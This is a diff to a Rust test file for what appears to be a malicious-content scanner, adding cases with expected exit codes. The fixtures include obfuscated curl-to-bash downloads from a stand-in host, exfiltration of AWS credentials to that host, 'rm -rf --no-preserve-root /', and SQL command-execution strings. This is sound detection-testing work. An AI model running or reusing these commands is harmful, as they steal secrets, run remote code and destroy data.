@@ -5,8 +5,7 @@ use mantlet_scan::{Options, Silent};
 use mantlet_vocab::Severity;
 
 fn code(file: &str, text: &str) -> u8 {
-    u8::try_from(scan_bytes(file, text.as_bytes()).verdict(Severity::Suspicious).exit_code())
-        .expect("it is small")
+    scan_bytes(file, text.as_bytes()).verdict(Severity::Suspicious).exit_code()
 }
 
 /// Exit codes: 0 for nothing found, 1 for found, 2 for not fully examined.
@@ -84,6 +83,19 @@ fn surfaces_are_judged_by_name_and_key() {
         ("run.Dockerfile", "FROM python:3.12\nENV BASH_ENV=/tmp/x\n", 1),
         (".env", "PYTHONBREAKPOINT=os.system\n", 1),
         (".env", "PYTHONBREAKPOINT=0\n", 0),
+        ("start.sh", "a=cu; b=rl; $a$b -s http://x.example/i | ba''sh\n", 1),
+        ("start.sh", "curl -s http://x.example/i | $0\n", 1),
+        ("start.sh", "$(printf '\\143\\165\\162\\154') -s http://x.example/i > /tmp/a; . /tmp/a\n", 1),
+        ("start.sh", "cat ~/.aws/credentials | base64 | xargs -I{} curl http://x.example/?d={}\n", 1),
+        ("start.sh", "rm -rf --no-preserve-root /\n", 1),
+        ("start.sh", "rm -rf ./build /tmp/x; printf '\\033[1m'; echo a''b | sort\n", 0),
+        ("package.json", r#"{"name": "a", "scripts": {"postinstall": "node setup.js"}}"#, 2),
+        ("package.json", r#"{"name": "a", "scripts": {"postinstall": "node-gyp rebuild"}}"#, 0),
+        (
+            "p/pyproject.toml",
+            "[build-system]\nrequires = []\nbuild-backend = 'be'\nbackend-path = ['.']\n",
+            2,
+        ),
         // What other programs read.
         ("q.sql", "COPY t TO PROGRAM 'id';\n", 1),
         ("q.sql", "SELECT load_extension('./x');\n", 1),
